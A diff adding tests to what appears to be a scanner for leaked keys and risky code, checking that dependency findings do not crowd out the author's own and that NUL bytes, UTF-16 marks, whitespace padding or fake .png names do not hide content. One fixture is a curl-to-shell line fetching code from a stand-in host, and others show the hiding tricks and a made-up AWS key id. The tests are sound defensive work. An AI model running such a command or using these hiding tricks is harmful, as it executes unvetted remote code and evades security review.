@@ -52,8 +52,36 @@ test('what is too large or too much is searched and listed in part, which is tol
   expect(report.findings).toHaveLength(200);
   expect(report.findings.at(-1)?.file).toBe('server/299.js');
   expect(report.gaps.at(-1)).toBe(
-    '`aws-key-id` was found 250 times, of which the first 200 are listed',
+    '`aws-key-id` (medium) was found 250 times, of which the first 200 are listed',
   );
+});
+
+const key = `'${['AKIA', 'QRSTUVWX2345ABCD'].join('')}'`;
+
+test('many findings of dependencies push none of the author’s own out of the list', async () => {
+  const flood = Array.from({ length: 250 }, (_, at) => [`node_modules/a/${at}.js`, key] as const);
+  const report = await scan({ ...Object.fromEntries(flood), 'server/a.js': key });
+  expect(report.findings[0]).toMatchObject({ file: 'server/a.js', severity: 'medium' });
+  expect(report.gaps.at(-1)).toContain('`aws-key-id` (low) was found 250 times');
+});
+
+test('neither NUL, nor a mark of UTF-16, nor a name of a picture hides a text', async () => {
+  const shell = 'curl -s https://x.test/a | sh\n';
+  const report = await scan({
+    'server/nul.js': `/*\0*/ const k = ${key};`,
+    'server/run.sh': Buffer.concat([Buffer.from([0xff, 0xfe, 10]), Buffer.from(shell)]),
+    'server/logo.png': `// ${' '.repeat(2000)}\nconst k = ${key};`,
+    'server/real.png': Buffer.concat([
+      Buffer.from('\x89PNG'),
+      Buffer.alloc(2000),
+      Buffer.from(key),
+    ]),
+  });
+  expect(report.findings.map(({ id, file }) => `${id} ${file}`)).toEqual([
+    'runs-fetched-code server/run.sh',
+    'aws-key-id server/logo.png',
+    'aws-key-id server/nul.js',
+  ]);
 });
 
 test('a scan that is cancelled ends', async () => {
